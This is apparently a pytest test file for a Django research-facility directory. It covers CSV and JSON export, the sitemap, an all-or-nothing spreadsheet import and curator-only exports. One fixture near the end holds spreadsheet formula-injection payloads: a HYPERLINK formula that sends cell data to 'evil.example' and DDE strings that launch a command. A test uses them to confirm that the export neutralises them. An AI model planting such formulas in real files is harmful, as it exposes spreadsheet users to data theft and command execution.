"""Open data: CSV and JSON export, the sitemap, and the all-or-nothing CSV import."""

import csv
import io
import json
from datetime import date

import pytest
from django.contrib.auth.models import Group
from django.core.management import CommandError, call_command

from accounts.tests.factories import MembershipFactory, OrganisationFactory, VerifiedUserFactory
from assets.models import AccessModel, Asset, AssetChange
from assets.opendata import COLUMNS
from assets.tests.factories import AssetFactory
from portal.models import FocalArea

pytestmark = pytest.mark.django_db


@pytest.fixture
def mif():
    host = OrganisationFactory(name="University of Liverpool", slug="university-of-liverpool")
    parent = AssetFactory(name="Materials Innovation Factory", slug="mif", host=host)
    asset = AssetFactory(
        name="Mass spectrometer",
        slug="mif-ms",
        kind=Asset.Kind.EQUIPMENT,
        host=host,
        parent=parent,
        summary="High-resolution mass spectrometry.",
        description="Run by **expert** technicians.",
        manufacturer="Thermo Fisher",
        model_number="Orbitrap",
        training_required=True,
        address="Crown Street",
        town="Liverpool",
        postcode="L7 3NY",
        latitude="53.405300",
        longitude="-2.964500",
        website="https://example.org/ms",
        enquiry_email="secret-desk@example.org",
        last_verified=date(2026, 1, 2),
        capabilities="mass spectrometry, proteomics",
        source_url="https://example.org/news/ms",
        operating_status=Asset.OperatingStatus.CHANGED,
        price_basis=Asset.PriceBasis.DAY_RATE,
        first_step="Book through the access form.",
        lead_time="Two weeks.",
        contact_route="ms@example.org",
        end_date=date(2027, 3, 31),
    )
    asset.focal_areas.add(FocalArea.objects.get(slug="materials-chemistry"))
    asset.access_models.add(*AccessModel.objects.filter(slug__in=["open-access", "membership"]))
    AssetFactory(name="Secret draft", status=Asset.Status.DRAFT)
    return asset


def read_csv(client):
    response = client.get("/assets/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode()
    return text, list(csv.DictReader(io.StringIO(text)))


def test_csv_export_has_uniquip_columns_and_published_assets_only(client, mif):
    text, rows = read_csv(client)

    assert text.splitlines()[0].split(",")[:5] == ["ID", "Type", "Name", "Summary", "Description"]
    for uniquip in ["Related Facility ID", "Technique", "Location", "Contact URL", "Web Address"]:
        assert uniquip in rows[0]
    row = next(r for r in rows if r["ID"] == "mif-ms")
    assert row["Type"] == "equipment"
    assert row["Name"] == "Mass spectrometer"
    assert row["Related Facility ID"] == "mif"
    assert row["Technique"] == "mass spectrometry; proteomics"
    assert row["Manufacturer"] == "Thermo Fisher" and row["Model"] == "Orbitrap"
    assert row["Location"] == "Crown Street" and row["Postcode"] == "L7 3NY"
    assert row["Access Models"] == "open-access; membership"
    assert row["Contact URL"] == "http://testserver/assets/mif-ms/"
    assert row["Last Verified"] == "2026-01-02"
    assert row["Source URL"] == "https://example.org/news/ms"
    assert row["Operating Status"] == "changed" and row["Price Basis"] == "day_rate"
    assert row["First Step"] == "Book through the access form."
    assert row["Lead Time"] == "Two weeks." and row["Contact Route"] == "ms@example.org"
    assert row["End Date"] == "2027-03-31"
    assert "Secret draft" not in text
    assert "secret-desk@example.org" not in text


def test_json_export_has_the_same_columns(client, mif):
    response = client.get("/assets/export.json")

    data = json.loads(response.content)
    assert data["columns"] == COLUMNS
    names = [asset["Name"] for asset in data["assets"]]
    assert names == ["Mass spectrometer", "Materials Innovation Factory"]
    assert "secret-desk@example.org" not in response.content.decode()


def test_sitemap_lists_published_assets(client, mif):
    xml = client.get("/sitemap.xml").content.decode()

    assert "http://testserver/assets/mif-ms/" in xml
    assert "http://testserver/assets/mif/" in xml
    assert "secret-draft" not in xml


def test_export_then_import_round_trips(client, mif, tmp_path):
    text, _ = read_csv(client)
    before = text
    path = tmp_path / "assets.csv"
    path.write_text(text)
    Asset.objects.filter(slug__in=["mif", "mif-ms"]).delete()

    call_command("import_assets", str(path), "--publish", stdout=io.StringIO())

    asset = Asset.objects.get(slug="mif-ms")
    assert asset.parent.slug == "mif" and asset.status == Asset.Status.PUBLISHED
    assert sorted(asset.capabilities.values_list("name", flat=True)) == [
        "mass spectrometry",
        "proteomics",
    ]
    assert asset.end_date == date(2027, 3, 31)
    assert asset.operating_status == Asset.OperatingStatus.CHANGED
    assert read_csv(client)[0] == before


def test_import_updates_existing_assets_matched_by_id(mif, tmp_path):
    path = tmp_path / "assets.csv"
    path.write_text(
        "ID,Type,Name,Summary,Organisation ID,Town\n"
        "mif-ms,equipment,Mass spectrometer (upgraded),New summary.,university-of-liverpool,"
        "Liverpool\n"
        ",facility,Brand new lab,A new lab.,university-of-liverpool,Liverpool\n"
    )
    out = io.StringIO()

    call_command("import_assets", str(path), stdout=out)

    assert "1 created, 1 updated" in out.getvalue()
    mif.refresh_from_db()
    assert mif.name == "Mass spectrometer (upgraded)" and mif.summary == "New summary."
    assert mif.operating_status == Asset.OperatingStatus.CHANGED  # no column: kept
    assert Asset.objects.get(name="Brand new lab").status == Asset.Status.DRAFT


def test_import_reports_every_bad_row_by_number_and_saves_nothing(mif, tmp_path):
    path = tmp_path / "assets.csv"
    path.write_text(
        "ID,Type,Name,Summary,Organisation ID,Focal Areas,Latitude,Training Required,"
        "Related Facility ID\n"
        "good-one,facility,Good lab,Fine.,university-of-liverpool,infection,53.4,no,\n"
        "bad one,spaceship,,Bad.,nobody,astrology,north,perhaps,missing\n"
        "good-one,facility,Twin,Dup.,university-of-liverpool,,,,\n"
    )
    err = io.StringIO()

    with pytest.raises(CommandError, match="nothing was imported"):
        call_command("import_assets", str(path), stderr=err)

    errors = err.getvalue()
    for expected in [
        "Row 3: ID “bad one” may only use letters, numbers, - and _",
        "Row 3: Type: Select a valid choice. spaceship is not one of the available choices.",
        "Row 3: Name: This field is required.",
        "Row 3: Organisation ID: no organisation “nobody”",
        "Row 3: Focal Areas: unknown “astrology”",
        "Row 3: Latitude: Enter a number.",
        "Row 3: Training Required: use yes or no",
        "Row 3: Related Facility ID: no asset “missing”",
        "Row 4: ID “good-one” appears more than once",
    ]:
        assert expected in errors
    assert "Row 2" not in errors
    assert not Asset.objects.filter(slug="good-one").exists()


def test_import_needs_the_required_columns(tmp_path):
    path = tmp_path / "assets.csv"
    path.write_text("Name,Colour\nLab,blue\n")
    err = io.StringIO()

    with pytest.raises(CommandError):
        call_command("import_assets", str(path), stderr=err)

    assert "Row 1: missing column(s): Type, Summary, Organisation ID" in err.getvalue()


def test_import_of_a_missing_file_fails_clearly(tmp_path):
    with pytest.raises(CommandError, match="Cannot read"):
        call_command("import_assets", str(tmp_path / "nope.csv"))


@pytest.mark.parametrize("status", [Asset.Status.DRAFT, Asset.Status.ARCHIVED])
def test_exports_do_not_name_a_parent_that_is_not_published(client, mif, status):
    Asset.objects.filter(slug="mif").update(status=status)

    _, rows = read_csv(client)
    exported = client.get("/assets/export.json").json()["assets"]

    assert [row["Related Facility ID"] for row in rows] == [""]
    assert [row["Related Facility ID"] for row in exported] == [""]


def test_exports_name_a_published_parent(client, mif):
    _, rows = read_csv(client)

    assert {row["ID"]: row["Related Facility ID"] for row in rows} == {"mif": "", "mif-ms": "mif"}


# --- Updating from a spreadsheet never loses what the file does not mention ---------

ALL_FIELDS = [f.name for f in Asset._meta.concrete_fields if f.name not in {"search_vector"}] + [
    "focal_areas",
    "access_models",
    "capabilities",
]


def snapshot(asset):
    """Every field of an asset as stored, many-to-many included."""
    asset = Asset.objects.get(pk=asset.pk)
    values = {name: getattr(asset, name) for name in ALL_FIELDS[:-3]}
    values["focal_areas"] = sorted(asset.focal_areas.values_list("slug", flat=True))
    values["access_models"] = sorted(asset.access_models.values_list("slug", flat=True))
    values["capabilities"] = sorted(asset.capabilities.values_list("name", flat=True))
    return values


def test_columns_absent_from_the_file_leave_the_fields_as_they_are(mif, tmp_path):
    before = snapshot(mif)
    path = tmp_path / "assets.csv"
    path.write_text(
        "ID,Type,Name,Summary,Organisation ID\n"
        "mif-ms,equipment,Mass spectrometer,New summary.,university-of-liverpool\n"
    )
    out = io.StringIO()

    call_command("import_assets", str(path), stdout=out)

    assert "0 created, 1 updated" in out.getvalue()
    after = snapshot(mif)
    assert after.pop("summary") == "New summary."
    before.pop("summary"), before.pop("updated_at"), after.pop("updated_at")
    assert after == before


def test_empty_cells_keep_the_field_unless_clearing_is_asked_for(mif, tmp_path):
    path = tmp_path / "assets.csv"
    path.write_text(
        "ID,Manufacturer,Focal Areas,Latitude,Longitude,Related Facility ID,Last Verified\n"
        "mif-ms,,,,,,\n"
    )
    before = snapshot(mif)

    call_command("import_assets", str(path), stdout=io.StringIO())
    assert snapshot(mif) == before  # nothing changed, not even the "updated" time

    call_command("import_assets", str(path), "--clear-empty", stdout=io.StringIO())
    mif.refresh_from_db()
    assert mif.manufacturer == "" and mif.latitude is None and mif.longitude is None
    assert mif.parent is None and mif.last_verified is None
    assert not mif.focal_areas.exists()
    assert mif.model_number == "Orbitrap" and mif.access_models.count() == 2  # not in file


def test_clearing_a_required_field_is_an_error(mif, tmp_path):
    path = tmp_path / "assets.csv"
    path.write_text("ID,Name,Organisation ID\nmif-ms,,\n")
    err = io.StringIO()

    with pytest.raises(CommandError):
        call_command("import_assets", str(path), "--clear-empty", stderr=err)

    assert "Row 2: Name: This field is required." in err.getvalue()
    assert "Row 2: Organisation ID: every asset needs a host organisation" in err.getvalue()


def test_a_new_asset_needs_its_required_values_even_when_the_file_has_an_id_column(tmp_path):
    OrganisationFactory(slug="uol")
    path = tmp_path / "assets.csv"
    path.write_text("ID,Name\nnew-lab,New lab\n")
    err = io.StringIO()

    with pytest.raises(CommandError):
        call_command("import_assets", str(path), stderr=err)

    assert "Row 2: Type: This field is required." in err.getvalue()
    assert "Row 2: Organisation ID: every asset needs a host organisation" in err.getvalue()


def curator_export(client):
    """The curators' export from the admin (every status, with the enquiry address)."""
    from accounts.tests.factories import UserFactory, sign_in_with_two_factor

    curator = UserFactory(is_staff=True)
    curator.groups.add(Group.objects.get(name="Curators"))
    sign_in_with_two_factor(client, curator)
    response = client.get("/admin/assets/asset/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return b"".join(response.streaming_content).decode()


def test_the_curators_export_round_trips_without_changing_any_field(client, mif, tmp_path):
    Asset.objects.filter(slug="mif").update(
        status=Asset.Status.DRAFT, enquiry_email="mif-desk@example.org", featured=True
    )
    assets = list(Asset.objects.all())
    before = [snapshot(asset) for asset in assets]
    text = curator_export(client)
    assert "secret-desk@example.org" in text and "Secret draft" in text
    path = tmp_path / "assets.csv"
    path.write_text(text)
    out = io.StringIO()

    call_command("import_assets", str(path), stdout=out)

    assert "0 created, 0 updated, 3 unchanged" in out.getvalue()
    assert [snapshot(asset) for asset in assets] == before
    assert curator_export(client) == text


def test_the_curators_export_rebuilds_the_assets_in_an_empty_directory(client, mif, tmp_path):
    before = snapshot(mif)
    path = tmp_path / "assets.csv"
    path.write_text(curator_export(client))
    Asset.objects.all().delete()

    call_command("import_assets", str(path), stdout=io.StringIO())

    rebuilt = snapshot(Asset.objects.get(slug="mif-ms"))
    for changing in ["id", "parent", "status", "created_at", "updated_at"]:
        before.pop(changing), rebuilt.pop(changing)
    assert rebuilt == before
    assert rebuilt["enquiry_email"] == "secret-desk@example.org"


def test_importing_the_public_export_over_the_directory_keeps_the_enquiry_address(
    client, mif, tmp_path
):
    before = snapshot(mif)
    path = tmp_path / "assets.csv"
    path.write_text(read_csv(client)[0])

    call_command("import_assets", str(path), stdout=io.StringIO())

    assert snapshot(mif) == before
    assert Asset.objects.get(pk=mif.pk).enquiry_email == "secret-desk@example.org"


def test_the_curators_export_is_for_curators_only(client, mif):
    from accounts.tests.factories import UserFactory, sign_in_with_two_factor

    sign_in_with_two_factor(client, UserFactory(is_staff=True))

    assert client.get("/admin/assets/asset/export.csv").status_code == 403


def test_dry_run_lists_each_change_and_saves_nothing(mif, tmp_path):
    path = tmp_path / "assets.csv"
    path.write_text(
        "ID,Type,Name,Summary,Organisation ID,Focal Areas,Latitude\n"
        "mif-ms,equipment,Mass spectrometer (upgraded),High-resolution mass spectrometry.,"
        "university-of-liverpool,materials-chemistry; infection,53.4\n"
        ",facility,Brand new lab,A new lab.,university-of-liverpool,,\n"
        "mif,facility,Materials Innovation Factory,A facility for testing.,"
        "university-of-liverpool,,\n"
    )
    before = snapshot(mif)
    out = io.StringIO()

    call_command("import_assets", str(path), "--dry-run", stdout=out)

    lines = out.getvalue().splitlines()
    assert "Row 2 (mif-ms): update Mass spectrometer (upgraded)" in lines
    assert "  Name: Mass spectrometer -> Mass spectrometer (upgraded)" in lines
    assert "  Latitude: 53.405300 -> 53.4" in lines
    assert "  Focal Areas: materials-chemistry -> infection; materials-chemistry" in lines
    assert "Row 3 (new): create Brand new lab" in lines
    assert "  Summary: (empty) -> A new lab." in lines
    assert not any(line.startswith("Row 4") for line in lines)  # unchanged rows are not listed
    assert lines[-1].endswith("would be 1 created, 1 updated, 1 unchanged; nothing was saved.")
    assert snapshot(mif) == before
    assert not Asset.objects.filter(name="Brand new lab").exists()


FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")',
    "summary": "+cmd|' /C calc'!A0",
    "manufacturer": "-2+3+cmd|' /C calc'!A0",
    "model_number": "@SUM(1+1)*cmd|' /C calc'!A0",
    "eligibility": "\t=1+1",
    "address": "\r=1+1",
}


def test_csv_export_neutralises_formulas_planted_in_any_field(client, mif):
    """The probe: a host organisation's owner renamed the organisation to a formula, and
    /assets/export.csv passed it (and =, +, -, @, tab and CR-led values) verbatim."""
    owner = VerifiedUserFactory()
    MembershipFactory(user=owner, organisation=mif.host)
    client.force_login(owner)
    renamed = client.post(
        f"/organisations/{mif.host.slug}/edit/",
        {"name": FORMULAS["name"], "kind": "university", "visibility": "public"},
    )
    assert renamed.status_code == 302, renamed.content.decode()
    Asset.objects.filter(pk=mif.pk).update(**FORMULAS)

    text, rows = read_csv(client)

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [cell for cell in cells if cell.startswith("-") and cell != "-2.964500"]
    row = next(r for r in rows if r["ID"] == "mif-ms")
    assert row["Organisation"] == "'" + FORMULAS["name"]
    assert row["Name"] == "'" + FORMULAS["name"]
    assert row["Model"] == "'" + FORMULAS["model_number"]
    assert row["Longitude"] == "-2.964500"  # a number stays a number


def test_neutralised_cells_import_as_they_were_written(client, mif, tmp_path):
    Asset.objects.filter(pk=mif.pk).update(**FORMULAS)
    path = tmp_path / "assets.csv"
    path.write_text(read_csv(client)[0])
    Asset.objects.filter(slug__in=["mif", "mif-ms"]).delete()

    call_command("import_assets", str(path), "--publish", stdout=io.StringIO())

    asset = Asset.objects.get(slug="mif-ms")
    assert asset.name == FORMULAS["name"] and asset.model_number == FORMULAS["model_number"]


def test_an_import_is_recorded_in_each_assets_history_with_old_and_new_values(mif, tmp_path):
    old_summary = mif.summary
    path = tmp_path / "assets.csv"
    path.write_text("ID,Summary\nmif-ms,A new summary from the spreadsheet.\n")

    call_command("import_assets", str(path), stdout=io.StringIO())

    change = AssetChange.objects.get(asset__slug="mif-ms")
    assert (change.field, change.old_value) == ("summary", old_summary)
    assert change.new_value == "A new summary from the spreadsheet."
    assert change.via == AssetChange.Via.IMPORT and change.actor == "import_assets command"
    assert not AssetChange.objects.filter(asset__slug="mif").exists()  # not in the file
